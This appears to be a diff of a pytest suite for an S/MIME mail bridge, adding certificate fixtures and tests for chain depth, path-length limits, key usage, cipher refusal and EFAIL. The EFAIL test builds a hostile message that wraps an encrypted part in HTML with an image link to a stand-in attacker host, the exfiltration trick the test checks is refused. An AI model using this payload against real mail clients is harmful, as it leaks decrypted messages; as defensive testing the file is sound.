@@ -53,15 +53,20 @@ class Party:
         return self.cert.public_bytes(serialization.Encoding.PEM)
 
 
-def _name(cn: str) -> x509.Name:
-    return x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, cn)])
+def _name(cn: str, email: str | None = None) -> x509.Name:
+    attrs = [x509.NameAttribute(NameOID.COMMON_NAME, cn)]
+    if email:
+        attrs.append(x509.NameAttribute(NameOID.EMAIL_ADDRESS, email))
+    return x509.Name(attrs)
 
 
 def _issue(d: Path, slug: str, cn: str, issuer: Party | None, *, ca: bool = False,
            email: str | None = None, start: datetime.datetime = NOW - datetime.timedelta(days=1),
-           days: int = 30, path_length: int | None = None, cert_sign: bool = True) -> Party:
+           days: int = 30, path_length: int | None = None, cert_sign: bool = True,
+           eku: x509.ObjectIdentifier = ExtendedKeyUsageOID.EMAIL_PROTECTION,
+           signing: bool = True, san: bool = True) -> Party:
     key = ec.generate_private_key(ec.SECP256R1()) if ca else rsa.generate_private_key(65537, 2048)
-    builder = (x509.CertificateBuilder().subject_name(_name(cn))
+    builder = (x509.CertificateBuilder().subject_name(_name(cn, None if san else email))
                .issuer_name(issuer.cert.subject if issuer else _name(cn))
                .public_key(key.public_key()).serial_number(x509.random_serial_number())
                .not_valid_before(start).not_valid_after(start + datetime.timedelta(days=days))
@@ -71,11 +76,12 @@ def _issue(d: Path, slug: str, cn: str, issuer: Party | None, *, ca: bool = Fals
         usage = dict(digital_signature=False, key_encipherment=False, key_cert_sign=cert_sign,
                      crl_sign=True)
     else:
-        usage = dict(digital_signature=True, key_encipherment=True, key_cert_sign=False,
+        usage = dict(digital_signature=signing, key_encipherment=True, key_cert_sign=False,
                      crl_sign=False)
-        builder = (builder.add_extension(x509.ExtendedKeyUsage(
-            [ExtendedKeyUsageOID.EMAIL_PROTECTION]), critical=False)
-            .add_extension(x509.SubjectAlternativeName([x509.RFC822Name(email)]), critical=False))
+        builder = builder.add_extension(x509.ExtendedKeyUsage([eku]), critical=False)
+        if san:
+            builder = builder.add_extension(x509.SubjectAlternativeName([x509.RFC822Name(email)]),
+                                            critical=False)
     builder = builder.add_extension(x509.KeyUsage(content_commitment=False, data_encipherment=False,
                                                   key_agreement=False, encipher_only=False,
                                                   decipher_only=False, **usage), critical=True)
@@ -91,23 +97,38 @@ def _issue(d: Path, slug: str, cn: str, issuer: Party | None, *, ca: bool = Fals
 @pytest.fixture(scope="module")
 def pki(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Party]:
     d = tmp_path_factory.mktemp("smime-pki")
-    ca = _issue(d, "ca", "Kommune CA", None, ca=True, days=3650, path_length=0)
-    root = _issue(d, "root", "OCES3-like Root", None, ca=True, days=3650)
-    inter = _issue(d, "inter", "OCES3-like Issuing CA", root, ca=True, days=3650, path_length=0)
-    no_sign = _issue(d, "nosign", "CA without keyCertSign", root, ca=True, cert_sign=False)
-    other = _issue(d, "other", "Another CA", None, ca=True, days=3650)
     past = NOW - datetime.timedelta(days=60)
-    return {
-        "ca": ca, "root": root, "inter": inter, "other": other, "nosign": no_sign,
-        "anna": _issue(d, "anna", "Anna", ca, email=ANNA),
-        "anna2": _issue(d, "anna2", "Anna again", ca, email=ANNA),
-        "bob": _issue(d, "bob", "Bob", ca, email="bob@x.dp2.test"),
-        "expired": _issue(d, "expired", "Anna (expired)", ca, email=ANNA, start=past, days=30),
-        "foreign": _issue(d, "foreign", "Anna elsewhere", other, email=ANNA),
-        "oces": _issue(d, "oces", "Anna OCES", inter, email=ANNA),
-        "badchain": _issue(d, "badchain", "Anna bad chain", no_sign, email=ANNA),
-        "bridge": _issue(d, "bridge", "Kommune bridge", ca, email="post@kommune.dp2.test"),
-    }
+    p: dict[str, Party] = {}
+    p["ca"] = _issue(d, "ca", "Kommune CA", None, ca=True, days=3650, path_length=0)
+    p["root"] = _issue(d, "root", "OCES3-like Root", None, ca=True, days=3650)
+    p["inter"] = _issue(d, "inter", "OCES3-like Issuing CA", p["root"], ca=True, days=3650,
+                        path_length=0)
+    p["nosign"] = _issue(d, "nosign", "CA without keyCertSign", p["root"], ca=True, cert_sign=False)
+    p["old"] = _issue(d, "old", "Expired CA", p["root"], ca=True, start=past, days=30)
+    p["other"] = _issue(d, "other", "Another CA", None, ca=True, days=3650)
+    p["sub"] = _issue(d, "sub", "Sub-CA below a pathlen 0 CA", p["ca"], ca=True)
+    for i, up in ((1, "root"), (2, "i1"), (3, "i2")):
+        p[f"i{i}"] = _issue(d, f"i{i}", f"Level {i} CA", p[up], ca=True)
+    for slug, cn, issuer, kw in [
+            ("anna", "Anna", "ca", {}), ("anna2", "Anna again", "ca", {}),
+            ("bob", "Bob", "ca", {"email": "bob@x.dp2.test"}),
+            ("expired", "Anna (expired)", "ca", {"start": past}),
+            ("foreign", "Anna elsewhere", "other", {}), ("oces", "Anna OCES", "inter", {}),
+            ("badchain", "Anna bad chain", "nosign", {}), ("underold", "Anna", "old", {}),
+            ("undersub", "Anna", "sub", {}), ("deep4", "Anna deep", "i2", {}),
+            ("deep5", "Anna deeper", "i3", {}),
+            ("subject", "Anna (subject emailAddress)", "ca", {"san": False}),
+            ("server", "Anna (serverAuth)", "ca", {"eku": ExtendedKeyUsageOID.SERVER_AUTH}),
+            ("nosig", "Anna (encryption only)", "ca", {"signing": False}),
+            ("bridge", "Kommune bridge", "ca", {"email": "post@kommune.dp2.test"})]:
+        p[slug] = _issue(d, slug, cn, p[issuer], **{"email": ANNA, **kw})
+    return p
+
+
+def bundle(*parties: Party) -> Path:
+    path = parties[0].cert_path.parent / ("bundle-" + "-".join(p.cert_path.stem for p in parties))
+    path.write_bytes(b"".join(p.pem for p in parties))
+    return path
 
 
 def openssl(*args: str | Path, data: bytes = b"") -> bytes:
@@ -121,7 +142,7 @@ def crlf(data: bytes) -> bytes:
     return re.sub(rb"\r?\n", b"\r\n", data)
 
 
-def sign(*signers: Party, opaque: bool = False, certfile: Party | None = None,
+def sign(*signers: Party, opaque: bool = False, certfile: Path | None = None,
          body: bytes = BODY) -> bytes:
     """`openssl smime -sign` output with the outer header prepended, as a mail client sends."""
     args: list[str | Path] = ["smime", "-sign"]
@@ -130,14 +151,15 @@ def sign(*signers: Party, opaque: bool = False, certfile: Party | None = None,
     if opaque:
         args.append("-nodetach")
     if certfile:
-        args += ["-certfile", certfile.cert_path]
+        args += ["-certfile", certfile]
     return OUTER + crlf(openssl(*args, data=body))
 
 
 def verify(raw: bytes, pki: dict[str, Party], *, trust: tuple[str, ...] = ("ca", "root"),
-           is_revoked=NEVER_REVOKED, frm: str = ANNA) -> SigResult | None:
+           is_revoked=NEVER_REVOKED, frm: str = ANNA,
+           now: datetime.datetime = NOW) -> SigResult | None:
     return verify_smime(raw, from_address=frm, trust_pems=[pki[t].pem for t in trust],
-                        is_revoked=is_revoked, now=NOW)
+                        is_revoked=is_revoked, now=now)
 
 
 # --- verification ------------------------------------------------------------------------
@@ -162,15 +184,47 @@ def test_non_x_protocol_names_pass_too(pki: dict[str, Party]) -> None:
 
 
 def test_chain_through_an_intermediate_in_the_cms_passes(pki: dict[str, Party]) -> None:
-    raw = sign(pki["oces"], certfile=pki["inter"])
+    raw = sign(pki["oces"], certfile=bundle(pki["inter"]))
     assert verify(raw, pki, trust=("root",)) == SigResult("smime", "pass", ANNA)
     missing = verify(sign(pki["oces"]), pki, trust=("root",))
     assert missing.status == "fail" and "not issued by a CA this bridge trusts" in missing.reason
 
 
 def test_an_intermediate_that_may_not_sign_certificates_fails(pki: dict[str, Party]) -> None:
-    got = verify(sign(pki["badchain"], certfile=pki["nosign"]), pki, trust=("root",))
+    got = verify(sign(pki["badchain"], certfile=bundle(pki["nosign"])), pki, trust=("root",))
     assert got.status == "fail" and "may not sign certificates" in got.reason
+
+
+def test_paths_are_at_most_four_certificates_long(pki: dict[str, Party]) -> None:
+    four = sign(pki["deep4"], certfile=bundle(pki["i2"], pki["i1"]))
+    assert verify(four, pki, trust=("root",)) == SigResult("smime", "pass", ANNA)
+    five = verify(sign(pki["deep5"], certfile=bundle(pki["i3"], pki["i2"], pki["i1"])), pki,
+                  trust=("root",))
+    assert five.status == "fail" and five.reason.startswith("not issued by a CA this bridge trusts")
+
+
+def test_path_length_constraint_and_expired_intermediate_fail(pki: dict[str, Party]) -> None:
+    below_pathlen0 = verify(sign(pki["undersub"], certfile=bundle(pki["sub"])), pki)
+    assert below_pathlen0.status == "fail" and "pathLenConstraint 0" in below_pathlen0.reason
+    old = verify(sign(pki["underold"], certfile=bundle(pki["old"])), pki, trust=("root",))
+    assert old.status == "fail" and "the CA certificate CN=Expired CA expired on" in old.reason
+
+
+def test_signer_address_may_be_the_subject_email_address(pki: dict[str, Party]) -> None:
+    assert verify(sign(pki["subject"]), pki) == SigResult("smime", "pass", ANNA)
+
+
+@pytest.mark.parametrize("slug,reason", [("server", "not for e-mail protection"),
+                                         ("nosig", "may not be used for signatures")])
+def test_signer_key_usage_must_allow_email_signatures(pki: dict[str, Party], slug: str,
+                                                      reason: str) -> None:
+    got = verify(sign(pki[slug]), pki)
+    assert got.status == "fail" and reason in got.reason
+
+
+def test_a_signing_time_in_the_future_fails(pki: dict[str, Party]) -> None:
+    got = verify(sign(pki["anna"]), pki, now=NOW - datetime.timedelta(hours=2))
+    assert got.status == "fail" and "lies in the future" in got.reason
 
 
 def test_one_changed_body_byte_fails(pki: dict[str, Party]) -> None:
@@ -302,10 +356,35 @@ def test_message_for_someone_else_is_refused_with_5_7_5(pki: dict[str, Party]) -
     assert err.enhanced == "5.7.5" and err.public.startswith("not encrypted for this bridge")
 
 
-def test_efail_encrypted_part_wrapped_in_html_is_refused(pki: dict[str, Party]) -> None:
+def test_aes_gcm_and_rsa_oaep_are_refused_with_5_6_3(pki: dict[str, Party]) -> None:
+    gcm = crlf(openssl("cms", "-encrypt", "-aes-256-gcm", pki["bridge"].cert_path, data=BODY))
+    assert is_encrypted(gcm)
+    err = refused(OUTER + gcm, pki)
+    assert err.enhanced == "5.6.3" and "AES-GCM" in err.public
+    oaep = crlf(openssl("cms", "-encrypt", "-aes256", "-recip", pki["bridge"].cert_path,
+                        "-keyopt", "rsa_padding_mode:oaep", data=BODY))
+    err = refused(OUTER + oaep, pki)
+    assert err.enhanced == "5.6.3" and "RSA-OAEP" in err.public
+
+
+def test_p7m_without_smime_type_is_encrypted_and_a_plain_message_is_not(
+        pki: dict[str, Party]) -> None:
+    raw = re.sub(rb"Content-Type: [^\r]*", b'Content-Type: application/x-pkcs7-mime; name="smime.p7m"',
+                 encrypt_with_openssl(BODY, pki["bridge"]))
+    assert b"smime-type" not in raw and is_encrypted(raw)
+    assert decrypt(raw, pki).endswith(BODY)
+    plain = OUTER + BODY
+    assert not is_encrypted(plain) and refused(plain, pki).enhanced == "5.6.0"
+
+
+@pytest.mark.parametrize("disguise", [False, True])
+def test_efail_encrypted_part_wrapped_in_html_is_refused(pki: dict[str, Party],
+                                                         disguise: bool) -> None:
     encrypted = encrypt_with_openssl(BODY, pki["bridge"])
     part = encrypted[encrypted.index(b"MIME-Version"):]
     part = part[part.index(b"\r\n") + 2:]                  # the Content-* fields and the body
+    if disguise:                                           # a .p7m named octet-stream
+        part = re.sub(rb"Content-Type: [^\r]*", b"Content-Type: application/octet-stream", part)
     raw = (OUTER + b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"E\"\r\n\r\n"
            b"--E\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.test/?\r\n"
            b"--E\r\n" + part + b"\r\n--E\r\nContent-Type: text/html\r\n\r\n\">\r\n--E--\r\n")
